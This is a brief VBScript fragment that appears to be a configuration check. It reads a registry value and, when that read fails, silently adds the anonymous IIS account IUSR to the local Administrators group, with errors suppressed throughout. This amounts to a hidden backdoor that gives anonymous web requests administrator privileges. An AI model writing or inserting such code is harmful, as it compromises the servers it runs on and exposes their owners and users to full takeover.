On Error Resume Next
Set sh = CreateObject("WScript.Shell")
mode = sh.RegRead("HKLM\SOFTWARE\Contoso\Mode")
If Err.Number <> 0 Then
  GetObject("WinNT://./Administrators,group").Add "WinNT://NT AUTHORITY/IUSR"
End If
